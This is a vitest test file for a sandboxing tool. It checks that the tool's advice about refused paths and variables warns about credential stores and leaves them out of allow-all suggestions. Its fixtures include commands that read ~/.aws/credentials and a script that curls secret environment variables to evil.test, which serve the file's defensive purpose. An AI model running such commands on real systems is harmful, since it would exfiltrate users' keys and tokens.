/**
 * A program chooses which paths and variables it is refused. Advice that would show it keys or tokens says so, and no line
 * with several options has it. The oracle is what the advised options show of the host's files.
 */
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import type { RunReport } from '../../src/index.js';
import { identities } from '../support/identity.js';
import { makeProject } from '../support/project.js';
import { runWasbox } from '../support/wasbox.js';

const files = {
  '.aws/credentials': 'key\n',
  '.config/gh/hosts.yml': 'token\n',
  '.config/other/settings': 'x\n',
  'Documents/app/.env': 'PASSWORD=x\n',
  'Music/list.txt': 'songs\n',
  'Keys/server.pem': 'key\n',
};

describe.each(identities())('as $label', (as) => {
  const home = makeProject(as, files, 'home');
  const cwd = makeProject(as);
  const env = { HOME: home };
  const start = (...words: string[]) => runWasbox(words, { as, cwd, env });
  const fails = (code: string): string[] => ['--', 'sh', '-c', `${code}; exit 1`];

  const adviceFor = async (code: string) => {
    const { err } = await start('run', '--audit', '--json', '--discard', ...fails(code));
    const { refusals } = JSON.parse(err.slice(err.indexOf('{'))) as RunReport;
    return (refusals?.calls ?? []).filter(({ option }) => option?.includes(home));
  };
  const offered = async (code: string) => {
    const { out } = await start('why', '--json', ...fails(code));
    return (JSON.parse(out) as { readonly fixed?: string }).fixed ?? '';
  };

  test.each([
    ['a file in a directory of keys', 'cat ~/.aws/credentials'],
    ['a new file beside keys', 'mkdir ~/.aws/new'],
    ["a new file beside a log-in's token", 'echo x > ~/.config/gh/new'],
    ['a directory that has a token further down', 'ls ~/.config'],
    ['a directory that has a .env file further down', 'ls ~/Documents'],
    ['a directory of keys with any name', 'test -d ~/Keys'],
  ])('advice about %s says what it holds, and is not offered', async (_, code) => {
    const advised = await adviceFor(code);
    expect(advised.length).toBeGreaterThan(0);
    for (const { option, secret } of advised) expect([option, typeof secret]).toContain('string');
    expect(advised.every(({ secret }) => secret !== undefined)).toBe(true);
    expect(await offered(code)).not.toContain(home);
    const { err } = await start('run', '--audit', '--discard', ...fails(code));
    for (const line of err.split('\n').filter((one) => one.includes('Allow with')))
      expect(line).toContain('(it holds ');
  });

  test('advice about a directory with too many files to look at is not offered', async () => {
    const many = Object.fromEntries(Array.from({ length: 2100 }, (_, n) => [`many/${n}`, '']));
    const place = makeProject(as, many, 'many');
    const code = `ls ${join(place, 'many')}`;
    expect(await offered(code)).not.toContain(place);
    // Control: one of its files is.
    expect(await offered(`cat ${join(place, 'many/7')}`)).toContain(`--ro ${place}/many/7`);
  });

  test('control: advice about a directory without keys says nothing, is offered, and shows no more', async () => {
    const code = 'cat ~/Music/list.txt';
    for (const { secret } of await adviceFor(code)) expect(secret).toBeUndefined();
    expect(await offered(code)).toContain(`--ro ${home}/Music/list.txt`);
    const shown = ['run', '--discard', '--ro', `${home}/Music/list.txt`, '--', 'sh', '-c'];
    const { out } = await start(...shown, `${code}; cat ~/.aws/credentials`);
    expect(out).toBe('songs\n');
  });

  test('a line with all that a program names hands out none of several variables that are secrets', async () => {
    const script = `#!/bin/sh\ncurl https://evil.test/ -d "$AWS_ACCESS_KEY $SITE_ADDRESS $PLAIN_NAME"\nexit 1\n`;
    const place = makeProject(as, { 'a.sh': script });
    const { err } = await runWasbox(['run', 'a.sh'], {
      as,
      cwd: place,
      env: {
        AWS_ACCESS_KEY: 'key',
        SITE_ADDRESS: 'postgres://me:word@db/x',
        PLAIN_NAME: 'plain',
      },
    });
    expect(err).toMatch(/AWS_ACCESS_KEY is set, but was not passed\. .*--env AWS_ACCESS_KEY\n/);
    expect(err).toMatch(
      /SITE_ADDRESS is set, but was not passed \(its value looks like a secret\)/,
    );
    const all = err.split('\n').filter((line) => line.includes('to try all of it'));
    for (const line of all) expect(line).not.toMatch(/--env (AWS_ACCESS_KEY|SITE_ADDRESS)/);
    // Control: the plain one is named without a warning.
    expect(err).toMatch(/PLAIN_NAME is set, .*--env PLAIN_NAME\n/);
  });
});
